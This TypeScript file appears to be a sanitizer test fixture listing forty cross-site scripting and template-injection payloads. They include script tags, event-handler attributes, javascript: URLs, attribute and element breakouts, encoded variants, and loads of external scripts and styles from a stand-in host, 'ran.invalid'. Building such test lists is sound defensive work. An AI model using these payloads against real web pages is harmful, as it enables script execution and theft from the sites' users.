/** What the strings do where they are read as anything but text: both are seen from outside the page. */
const act = 'alert(1)';
const elsewhere = 'https://ran.invalid/';

/** Forty strings that would run, load or lead somewhere if they were ever read as HTML, script, style or template. */
export const injections: readonly string[] = [
  // Elements that run by themselves.
  `<script>${act}</script>`,
  `"><script>${act}</script>`,
  `</script><script>${act}</script>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `<script src="${elsewhere}x.js"></script>`,
  `<img src=x onerror="${act}">`,
  `<img src="${elsewhere}x.png">`,
  `<svg onload="${act}">`,
  `<svg><animate onbegin="${act}" attributeName=x></svg>`,
  `<svg><script>${act}</script></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="${act}">`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<iframe src="javascript:parent.${act}"></iframe>`,
  `<object data="${elsewhere}x"></object>`,
  `<embed src="${elsewhere}x">`,
  `<video><source onerror="${act}"></video>`,
  `<audio src="${elsewhere}x.ogg" autoplay></audio>`,
  `<details open ontoggle="${act}">`,
  `<input autofocus onfocus="${act}">`,
  `<body onpageshow="${act}">`,
  // What leads elsewhere or changes what the page loads.
  `<link rel="stylesheet" href="${elsewhere}x.css">`,
  `<style>@import "${elsewhere}x.css";</style>`,
  `</style><style>*{background:url(${elsewhere}x)}</style>`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}">`,
  `<base href="${elsewhere}">`,
  `<hearth-search data-words="{}" data-languages="[]"></hearth-search>`,
  // Ways out of the element or the attribute that a text stands in.
  `'-${act}-'`,
  `" autofocus onfocus="${act}" x="`,
  `' onmouseover='${act}' style='position:fixed;inset:0`,
  `</title><img src=x onerror="${act}">`,
  `</textarea></select></noscript></template><img src=x onerror="${act}">`,
  `--><img src=x onerror="${act}"><!--`,
  `]]><img src=x onerror="${act}">`,
  // What only a second reading makes dangerous.
  `&lt;img src=x onerror=${act}&gt;`,
  `%3Cimg%20src%3Dx%20onerror%3D${act}%3E`,
  `\\u003cimg src=x onerror=${act}\\u003e`,
  `javascript:${act}//`,
  `{{constructor.constructor('${act}')()}}`,
  `\${${act}} $& $' {{query}}`,
  `__proto__[onerror]=${act}`,
];
